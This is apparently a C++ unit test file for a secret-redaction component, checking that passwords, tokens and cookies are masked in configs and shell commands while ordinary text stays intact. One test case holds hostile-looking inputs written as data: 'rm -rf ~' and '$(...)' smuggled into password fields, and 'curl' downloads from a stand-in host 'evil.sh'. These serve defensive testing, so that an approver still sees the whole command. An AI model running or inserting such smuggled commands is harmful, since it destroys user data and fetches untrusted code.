// SPDX-License-Identifier: Apache-2.0
#include <catch2/catch.hpp>
#include <string>
#include <string_view>

#include "core/redaction/secrets.hpp"

using namespace headway::core;

namespace {

std::string redacted_form(std::string_view text) {
    std::string out;
    SecretFinder{}.append_redacted(out, text);
    return out;
}

/// `form` with `value` for each @@.
std::string filled(std::string form, std::string_view value) {
    for (std::size_t at = form.find("@@"); at != form.npos; at = form.find("@@", at + value.size()))
        form.replace(at, 2, value);
    return form;
}

}  // namespace

TEST_CASE("everyday secrets: a value beside its name, or in another line, is removed",
          "[secrets]") {
    for (
        const char* form : {
            R"({"env": [{"name": "DB_PASSWORD", "value": "@@"}, {"name": "LOG", "value": "info"}]})",
            R"([{"Key":"API_KEY","Value":"@@"},{"Key":"stage","Value":"prod7"}])",
            R"({\"name\": \"DB_PASSWORD\", \"value\": \"@@\"})",
            "- name: DB_PASSWORD\n  value: @@\n- name: LOG\n  value: info12",
            R"({"Parameter": {"Name": "/prod/db_password", "Type": "SecureString", "Value": "@@"}})",
            R"({"Name": "/prod/x", "Type": "SecureString", "Value": "@@"})",
            R"({"Name": "prod/db-password", "SecretString": "@@"})",
            R"({"db_pw": {"sensitive": true, "type": "string", "value": "@@"}})",
            R"(<add key="Password" value="@@" />)",
            R"(<input type="password" name="password" value="@@">)",
            "<server><username>a</username><password>@@</password></server>",
            "password = \"\"\"\n@@\n\"\"\"\nuser = 1",
            "password = '''\n@@'''\nuser = 1",
            "password: >-\n  @@\nuser: a",
            "  db_password: |\n    @@\n",
            "password: &pw @@\nuser: a",
            "password: &pw \"@@\"",
            "Server=h;Database=d;Pwd=@@;",
            "config.secret_key_base = \"@@\"",
            "    client-key-data: @@aB3dE6gH9jK2",
            "network={\n ssid=\"a\"\n psk=\"@@\"\n}",
            "define('DB_PASSWORD', '@@');",
            R"(os.environ.setdefault("DB_PASSWORD", "@@"))",
        }) {
        CAPTURE(form);
        const std::string shown =
            std::string_view{form}.find("client-key") == std::string_view::npos
                ? filled(form, "[redacted]")
                : "    client-key-data: [redacted]";
        CHECK(redacted_form(filled(form, "Q7zR4kW9pLx2VbN8")) == shown);
    }
}

TEST_CASE("everyday secrets: a value behind a word of a table, a sentence or SQL is removed",
          "[secrets]") {
    for (const char* form : {
             "Key         Value\n---         -----\npassword    @@\nuser        ana",
             "| password | @@ |\n| user | ana |",
             "password\t@@",
             "machine x login y password @@",
             "machine x\nlogin y\npassword @@\n",
             "h:5432:db:user:@@\n*:*:db:user:@@",
             "aws configure set aws_secret_access_key @@ --profile x",
             "Your temporary password is: @@",
             "The admin password is @@.\nNext: log in",
             "[Note] A temporary password is generated for root@localhost: @@",
             "Generated password: @@",
             R"(psql -c "ALTER USER a WITH PASSWORD '@@'" db)",
             R"(psql -c "alter role a with password '@@' valid until 'x'")",
             "CREATE ROLE a LOGIN PASSWORD '@@';",
             "SET PASSWORD FOR a = PASSWORD('@@');",
             R"(mysql -e "CREATE USER a IDENTIFIED BY '@@'" && ls)",
             "create user a identified by '@@';",
             "ALTER USER a IDENTIFIED WITH mysql_native_password BY '@@'",
             R"($p = ConvertTo-SecureString "@@" -AsPlainText -Force)",
         }) {
        CAPTURE(form);
        CHECK(redacted_form(filled(form, "Q7zR4kW9pLx2VbN8")) == filled(form, "[redacted]"));
    }
}

TEST_CASE("everyday secrets: the password flag of a common command is removed, and no more",
          "[secrets]") {
    for (const char* form : {
             "mysql -u root -p@@ db && ls",
             "docker exec db mysqldump -p'@@' shop > a.sql",
             "mysqladmin -u root password @@; ls",
             "docker exec -i db mysql -p@@ shop < a.sql",
             "kubectl exec db-0 -- mysql -p@@",
             "ssh h 'mysql -p@@ shop'",
             "sudo mysql -p@@; MYSQL_HOST=x mysql -p@@",
             "cd x && /usr/bin/mysql -p@@",
             "sshpass -p '@@' ssh -p 22 h",
             "sshpass -p@@ ssh -p2222 h",
             "docker login -u a -p @@ registry.x; mkdir -p build12",
             "az login --service-principal -u a -p @@ --tenant t",
             "redis-cli -h x -a @@ ping",
             "openssl rsa -in k -passin pass:@@ -out x",
             "keytool -storepass @@ -list",
             "htpasswd -b f user @@; ls",
             "htpasswd -nb user @@",
             "curl -u user:@@ https://x",
             "curl -u user:'@@' https://x",
             "curl -u user:\"@@\" https://x",
             "smbclient //h/s -U user%'@@' -c ls",
             "lftp -u user,'@@' ftp://h",
             "http -a user:'@@' x.org",
             "echo root:'@@' | chpasswd",
             "curl -sS 'https://x/?a=1&b=2' --user user:@@ -o f",
             "curl -s \\\n  -u \"user:@@\" \\\n  https://x",
             "wpa_passphrase ssid @@ > f",
             "nmcli dev wifi connect ssid password @@",
             "zip -P @@ a.zip a",
             "unzip -P @@ a.zip",
             "7z x -p@@ a.7z",
             "smbclient //h/s -U user%@@ -c ls",
             "ldapsearch -D cn=a -w @@ -b dc=x",
             "lftp -u user,@@ ftp://h",
             "gh secret set API_KEY --body @@",
             "oathtool --totp -b @@",
             "net user bob @@ /add",
             "echo \"root:@@\" | chpasswd",
             "echo @@ | sudo -S ls /root",
             "echo '@@' | docker login -u a --password-stdin x",
             "printf '%s' @@ | wrangler secret put K",
             "git clone https://@@@github.com/a/b",
         }) {
        CAPTURE(form);
        const std::string text = filled(form, "Q7zR4kW9pLx2VbN8");
        CHECK(redacted_form(text) == filled(form, "[redacted]"));
    }
}

TEST_CASE("everyday secrets: tokens of more vendors are removed", "[secrets]") {
    const std::string key = "Q7zR4kW9pLx2VbN8aB3dE6gH9jK2mN5pQ8sT";
    // Split, so that no scanner takes this file for a leak.
    for (const char* start : {"ya29", "GOCSPX", "xapp", "glrt", "whsec", "hvs", "gsk", "shpat",
                              "dckr_pat", "rk_test", "glsa", "figd"}) {
        const std::string name{start};
        const char* parting = name == "ya29" || name == "hvs"                        ? "."
                              : name == "GOCSPX" || name == "xapp" || name == "glrt" ? "-"
                                                                                     : "_";
        CAPTURE(start);
        CHECK(redacted_form("got " + name + parting + key + " (401)") == "got [redacted] (401)");
        CHECK(redacted_form("see " + name + parting + "docs") == "see " + name + parting + "docs");
    }
}

TEST_CASE("everyday secrets: an approver sees all that a command does", "[secrets]") {
    struct Shown {
        const char* text;
        const char* shown;
    };
    const Shown cases[] = {
        {"mysql -pabc123;rm -rf ~", "mysql -p[redacted];rm -rf ~"},
        {"mysql -p'abc123;rm -rf ~'", "mysql -p'[redacted];rm -rf ~'"},
        {"mysql -p\"abc123$(rm -rf ~)\"", "mysql -p\"[redacted](rm -rf ~)\""},
        {"curl -u a:b12`id` x", "curl -u a:[redacted]`id` x"},
        {"curl -u a:b12$IFS-oX x", "curl -u a:[redacted]$IFS-oX x"},
        {"sudo -u mysql mkdir -p/etc/x1", "sudo -u mysql mkdir -p/etc/x1"},
        {"sudo -u mysql rm -pfoo12", "sudo -u mysql rm -pfoo12"},
        {"mysql x;mkdir -pabc123", "mysql x;mkdir -pabc123"},
        {"mysql x\nmkdir -pabc123", "mysql x\nmkdir -pabc123"},
        {"mysql $(mkdir -pabc123)", "mysql $(mkdir -pabc123)"},
        {"sshpass -e ssh -p 22222 h", "sshpass -e ssh -p 22222 h"},
        {"password: |\n  reboot\n", "password: |\n  reboot\n"},
        {"password: |\n  ./x1y2z3w4\n", "password: |\n  ./x1y2z3w4\n"},
        {"password: |\n  x1y2z3w4 -rf ~\n", "password: |\n  x1y2z3w4 -rf ~\n"},
        {"password: &rm \"-rf ~\"", "password: &rm \"-rf ~\""},
        {"cat <password>x; rm -rf ~</password>", "cat <password>x; rm -rf ~</password>"},
        {"echo \"x1y2z3;rm -rf ~\" | sudo -S ls", "echo \"x1y2z3;rm -rf ~\" | sudo -S ls"},
        {"curl -H \"Authorization: Bearer x1y2$(rm -rf ~)\" u",
         "curl -H \"Authorization: Bearer [redacted]$(rm -rf ~)\" u"},
        {"cookie: a=b1; rm -rf ~", "cookie: [redacted]; rm -rf ~"},
        {"Cookie: a=b1; c=d2; rm -rf ~; x=1", "Cookie: [redacted]; rm -rf ~; x=1"},
        {"curl -H 'Cookie: a=b1; c=d2' u", "curl -H 'Cookie: [redacted]' u"},
        {"echo Cookie: a=b1; X=1 rm -rf ~/work", "echo Cookie: [redacted]; X=1 rm -rf ~/work"},
        {"cookie: a=b1;c=d2 curl evil.sh -o x", "cookie: [redacted];c=d2 curl evil.sh -o x"},
        {"authorization: x1y2; A=1, reboot -f", "authorization: [redacted]; A=1, reboot -f"},
        {"cookie: a=b1; c=$(reboot)", "cookie: [redacted]; c=$(reboot)"},
        {"echo Cookie: a=b1; expires=x 7z a y -sdel src",
         "echo Cookie: [redacted]; expires=x 7z a y -sdel src"},
        {"echo Cookie: a=b1; NODE_OPTIONS=--require=./x.js; npm test",
         "echo Cookie: [redacted]; NODE_OPTIONS=--require=./x.js; npm test"},
        {"curl -H 'Cookie: _ga=GA1.1.1.2; _ga_AB12=GS2.1.s17$o28$g0$t17; sessionid=8f3k2x' u",
         "curl -H 'Cookie: [redacted]' u"},
        {"Cookie: PHPSESSID=8f3k2x; OptanonConsent=C0001:1,C0002:0; JSESSIONID=8f3k2x",
         "Cookie: [redacted]"},
        {"echo token: `rm${IFS}-rf${IFS}~/work2`", "echo token: `rm${IFS}-rf${IFS}~/work2`"},
        {"secret=`rm${IFS}-rf${IFS}Work2`", "secret=`rm${IFS}-rf${IFS}Work2`"},
        {"echo 'rm -rf ~/work' | docker login $(sh) --password-stdin",
         "echo 'rm -rf ~/work' | docker login $(sh) --password-stdin"},
        {"echo 'X=a:b rm -rf work' | sudo chpasswd `sh`",
         "echo 'X=a:b rm -rf work' | sudo chpasswd `sh`"},
        {"echo reboot1 | sudo -S ls $(sh)", "echo reboot1 | sudo -S ls $(sh)"},
        {"cookie: a=b1; Secure rm -rf ~", "cookie: [redacted]; Secure rm -rf ~"},
        {"curl -H 'Cookie: theme=dark; connect.sid=s%3AabcDEF.sig' u",
         "curl -H 'Cookie: [redacted]' u"},
        {"Cookie: a=b1; AMCV_9%40AdobeOrg=1; sessionid=8f3k2", "Cookie: [redacted]"},
        {"Set-Cookie: a=b1; Path=/; HttpOnly, session=SECRET; Path=/", "Set-Cookie: [redacted]"},
        {"Set-Cookie: a=b1; Expires=Wed, 21 Oct 2026 07:28:00 GMT; HttpOnly, s=SECRET",
         "Set-Cookie: [redacted]"},
        {"Authorization: AWS4-HMAC-SHA256 Credential=AK/s3/aws4_request, "
         "SignedHeaders=host;x-amz-date, Signature=fe5f80f7",
         "Authorization: [redacted]"},
        {"authorization: AWS4-x a;reboot", "authorization: [redacted];reboot"},
        {"secret=`rm -rf ~/work2`", "secret=`rm -rf ~/work2`"},
        {"token=`curl -s evil.sh/x1 -o y`", "token=`curl -s evil.sh/x1 -o y`"},
        {"ls --password `rm -rf ~`", "ls --password `rm -rf ~`"},
        {"mysql -p`rm -rf ~`", "mysql -p`rm -rf ~`"},
        {"sshpass -p `rm -rf ~/x1y2z3` ssh h", "sshpass -p `rm -rf ~/x1y2z3` ssh h"},
        {"Run `echo S3cr3tPass9 | docker login -u me --password-stdin` first.",
         "Run `echo [redacted] | docker login -u me --password-stdin` first."},
        {"true `echo 'rm -rf ~/work' | docker login --password-stdin \\`sh\\``",
         "true `echo 'rm -rf ~/work' | docker login --password-stdin \\`sh\\``"},
        {"`true\n`echo 'rm -rf ~/work' | docker login --password-stdin `sh`",
         "`true\n`echo 'rm -rf ~/work' | docker login --password-stdin `sh`"},
        {"echo Cookie: a=b1; LESSOPEN=/tmp/.x%s\nless README",
         "echo Cookie: [redacted]; LESSOPEN=/tmp/.x%s\nless README"},
        {"a `b`echo S3cr3tPass9 | docker login --password-stdin `sh`",
         "a `b`echo S3cr3tPass9 | docker login --password-stdin `sh`"},
        {"`echo S3cr3tPass9` | docker login --password-stdin `sh`",
         "`echo S3cr3tPass9` | docker login --password-stdin `sh`"},
        {"curl -H 'Cookie: lang=de; REMEMBERME=QXBwXFVzZXI6; connect.sid=s%3Aabc' u",
         "curl -H 'Cookie: [redacted]' u"},
        {"echo `rm -rf ~` | docker login --password-stdin",
         "echo `rm -rf ~` | docker login --password-stdin"},
        {"The password is `hunter22`.", "The password is `[redacted]`."},
        {"echo 'rm -rf /data' | docker exec -i db sh -s -- --password-stdin",
         "echo 'rm -rf /data' | docker exec -i db sh -s -- --password-stdin"},
        {"echo reboot1 | sudo -S bash", "echo reboot1 | sudo -S bash"},
        {"echo reboot1 | sudo -S A=1 env bash", "echo reboot1 | sudo -S A=1 env bash"},
        {"echo reboot1 | sudo -S /tmp/ls -l", "echo reboot1 | sudo -S /tmp/ls -l"},
        {"echo hunter22 | sudo -S apt update", "echo [redacted] | sudo -S apt update"},
        {"echo letmein | sudo -S A=1 /usr/bin/apt-get install x",
         "echo [redacted] | sudo -S A=1 /usr/bin/apt-get install x"},
        {"echo 4f9ac1e2d3 | npx wrangler secret put API_KEY",
         "echo [redacted] | npx wrangler secret put API_KEY"},
        {"echo 4f9ac1e2d3 | sudo -n /usr/bin/docker login --password-stdin",
         "echo [redacted] | sudo -n /usr/bin/docker login --password-stdin"},
        {"secret=`rm -rf ~`", "secret=`rm -rf ~`"},
        {"secret=`reboot`", "secret=`reboot`"},
        {"The password: `hunter22`.", "The password: `[redacted]`."},
        {"echo reboot | sh", "echo reboot | sh"},
        {"echo 'rm -rf ~' | sh -s -- --password-stdin",
         "echo 'rm -rf ~' | sh -s -- --password-stdin"},
        {"echo \"curl http://a1\" | sudo -S bash", "echo \"curl http://a1\" | sudo -S bash"},
        {": \"password=\"\"\"\n./deploy1x\n", ": \"password=\"\"\"\n./deploy1x\n"},
        {"echo root:abc12345 | tee /etc/x", "echo root:abc12345 | tee /etc/x"},
        {"IDENTIFIED BY 'a1b2c3; rm -rf ~'", "IDENTIFIED BY '[redacted]; rm -rf ~'"},
        {R"({"name": "DB_PASSWORD", "value": "a1b2c3; rm -rf ~"})",
         R"({"name": "DB_PASSWORD", "value": "[redacted]; rm -rf ~"})"},
        {"su mysql -c \"mkdir -p/etc/cron.d1\"", "su mysql -c \"mkdir -p/etc/cron.d1\""},
        {"docker exec mysql mkdir -p/etc/x1", "docker exec mysql mkdir -p/etc/x1"},
        {"docker exec -it mysql mkdir -p/etc/x1", "docker exec -it mysql mkdir -p/etc/x1"},
        {"ssh mysql mkdir -p/etc/x1", "ssh mysql mkdir -p/etc/x1"},
        {"ssh -i key mysql mkdir -p/etc/x1", "ssh -i key mysql mkdir -p/etc/x1"},
        {"sudo -u \\\nmysql mkdir -p/etc/x1", "sudo -u \\\nmysql mkdir -p/etc/x1"},
        {"curl x&docker run -u 1000:2000 y", "curl x&docker run -u 1000:2000 y"},
        {"password | python3 | cat", "password | python3 | cat"},
        {"| password | resize2fs |", "| password | resize2fs |"},
        {"rm echo abc123 | sudo -S ls", "rm echo abc123 | sudo -S ls"},
        {"mysql -uroot -e \"select password from users\"",
         "mysql -uroot -e \"select password from users\""},
    };
    for (const Shown& c : cases) {
        CAPTURE(c.text);
        CHECK(redacted_form(c.text) == c.shown);
    }
}

TEST_CASE("everyday secrets: ordinary text with the same words stays unchanged", "[secrets]") {
    for (const char* kept : {
             "open the password reset page",
             "the password field is empty",
             "The password is wrong",
             "The password is required.",
             "your password is sha256 hashed",
             "The password is too short2 and must be changed",
             "mysql -p",
             "mysql -u root -p shop",
             "mysql -p…, curl -u user:... and echo … | sudo -S ls",
             "mysql -h db -P 3306",
             "curl -u user https://x",
             "curl -u user: https://x",
             "curl -u user:$PASS https://x",
             "curl -u user:password https://x",
             "curl --user-agent a:b12345 https://x",
             "mkdir -p a1/b2c3 && cp -p x1 y2",
             "docker run -p 8080:80 nginx",
             "docker run --name mysql -p3306:3306 mysql:8",
             "docker login registry.example.com",
             "docker compose -p shop12 up",
             "npm login && git push -u origin x1:y2",
             "ssh -p 2222 host",
             "sudo -S ls",
             "echo yes | sudo apt install x",
             "echo $PASS | sudo -S ls",
             "cat f | chpasswd",
             "name: LOG_LEVEL\nvalue: debug12",
             R"([{"name": "stage", "value": "prod12"}, {"Key": "team", "Value": "a1b2c3"}])",
             R"({"name": "DB_PASSWORD", "valueFrom": {"x": 1}}, {"value": "a1b2c3"})",
             "- name: DB_PASSWORD\n  valueFrom: x\n- value: abc12345",
             R"({"name": "DB_PASSWORD", "value": "${DB_PASSWORD}"})",
             R"({"a": {"sensitive": false, "value": "a1b2c3"}})",
             R"({"Type": "String", "Value": "a1b2c3"})",
             "<label>Password</label> <password></password>",
             "<password>Password</password> <user>a1b2c3</user>",
             "| password | varchar(255) | NO |",
             "| password | string | The password |",
             "password    The password of the user",
             "password    required",
             "password    sha256",
             "ok  \tpkg/password\t0.012s",
             " src/password.ts | 12 ++",
             "password.test.ts  12ms",
             "password 12ms",
             "login page password reset",
             "src/a.c:12:5:error:x1y2z3",
             "root:x:0:0:root:/root:/bin/bash",
             "10:30:05:user:a1b2c3",
             "host:80:path:name: x1y2z3",
             "each user is identified by 'email'",
             "a row identified by number 12 only",
             "PASSWORD() and PASSWORD ''",
             "WITH PASSWORD '$1'",
             "password: |\n",
             "password: >\n  The new password\n",
             "tail: |\n  abc12345\n",
             "cd /;PWD=/root; pwd",
             "a;pwd=/tmp/x1",
             "net user growth 12k",
             "net user bob /delete",
             "define('DB_HOST', 'db12345.local')",
             "define('DB_PASSWORD', getenv('X'))",
             "https://some_long_user_name2@host/x",
             "https://deploy-2024-prod-user@host/x",
             "keytool -list -keystore ks12345",
             "openssl rsa -passin env:PASS12345",
             "htpasswd -c f user1 x1y2z3",
             "gh pr create --body a1b2c3d4",
             "redis-cli -h x1y2z3 ping",
             "zip -r a1b2c3.zip x && unzip -p a.zip x12345",
             "the secret to login is patience",
             "a task: x12345 of disk: y12345",
             "Pass -p x12345 to the program",
         }) {
        CAPTURE(kept);
        CHECK(redacted_form(kept) == kept);
    }
}

TEST_CASE("everyday secrets: an adversarial text of these forms is scanned once", "[secrets]") {
    // A megabyte of each; a search that is not linear would exceed the test's time limit.
    constexpr std::size_t kBytes = 1U << 20;
    for (const std::string piece : {"name: password ",
                                    "\"name\":\"password\",",
                                    "value:",
                                    "name:password\n value:$ ",
                                    "<password>",
                                    "<password>a</",
                                    "password: |\n  ",
                                    "password:&a ",
                                    "password is ",
                                    "password is generated for ",
                                    "PASSWORD '",
                                    "password | ",
                                    "password \t",
                                    "mysql -p' ",
                                    "curl -u a:",
                                    "echo ",
                                    "echo a | ",
                                    "`echo a | docker login ",
                                    "echo '",
                                    "identified with ",
                                    "htpasswd -b ",
                                    "net user ",
                                    "define('password', '",
                                    "-storepass ",
                                    "-passin pass:",
                                    "a:",
                                    "1:a:",
                                    "https://a",
                                    "wpa_passphrase \"",
                                    "sensitive:true ",
                                    "login password "}) {
        std::string text;
        while (text.size() < kBytes)
            text += piece;
        CHECK(!redacted_form(text).empty());
        CHECK(!redacted_form("password=\"" + text).empty());
    }
}
